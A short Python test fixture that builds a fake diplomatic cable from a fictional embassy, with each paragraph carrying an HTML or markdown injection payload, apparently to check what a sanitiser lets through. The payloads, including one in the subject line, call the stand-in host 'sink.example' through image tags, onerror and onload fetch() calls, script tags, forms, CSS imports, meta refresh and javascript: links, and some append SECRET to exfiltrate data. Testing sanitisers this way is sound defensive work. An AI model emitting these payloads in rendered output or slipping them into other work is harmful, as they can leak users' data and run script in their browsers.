"""A cable whose words attack the page: each row of output that a sanitiser is known to let through."""

SINK = "sink.example"
PAYLOADS = (
    f"![x](https://{SINK}/a.png?d=SECRET)",
    f'<img src="https://{SINK}/b.png?d=SECRET" onerror="fetch(`https://{SINK}/c`)">',
    f'<svg onload="fetch(`https://{SINK}/d`)"></svg><script>fetch("https://{SINK}/e")</script>',
    f'<form action="https://{SINK}/f"><input name="q"><button>send</button></form>',
    f'<div style="background:url(https://{SINK}/g)">x</div>',
    '<div style="position:fixed;inset:0;background:red">x</div>',
    f'<video src="https://{SINK}/h" autoplay></video><iframe src="https://{SINK}/i"></iframe>',
    f"[ref](https://{SINK}/j?q=SECRET)",
    f'<meta http-equiv="refresh" content="0;url=https://{SINK}/k"><base href="https://{SINK}/">',
    f'<link rel="stylesheet" href="https://{SINK}/l.css"><style>@import "https://{SINK}/m.css";</style>',
    "[x](javascript:alert(1)) <a href='javascript:alert(1)'>y</a> ${alert(1)} {{7*7}}",
    "$$\\href{javascript:alert(1)}{z}$$ `code` **bold** <!-- comment -->",
)
ID = "09PORTALDERA901"
SUBJECT = f'<img src=x onerror=fetch("//{SINK}/s")> THE ZEPHYRINE BANNER'


def telegram() -> str:
    """The text of the cable, one payload a paragraph."""
    head = (
        "VZCZCXRO9999\nRR RUEHXA\nDE RUEHQX #0901/01 3411315\nZNR UUUUU ZZH\nR 071315Z DEC 09\n"
        "FM AMEMBASSY PORT ALDERA\nTO RUEHC/SECSTATE WASHDC 2999\nUNCLAS PORT ALDERA 000901\n\n"
        f"SIPDIS\n\nE.O. 12958: N/A\nTAGS: PGOV VX\nSUBJECT: {SUBJECT}\n\n"
    )
    body = "".join(
        f"{number}. (U) The Zephyrine office published banner number {number} as {payload} on its page.\n\n"
        for number, payload in enumerate(PAYLOADS, 1)
    )
    return f"{head}{body}PASCOE\n"
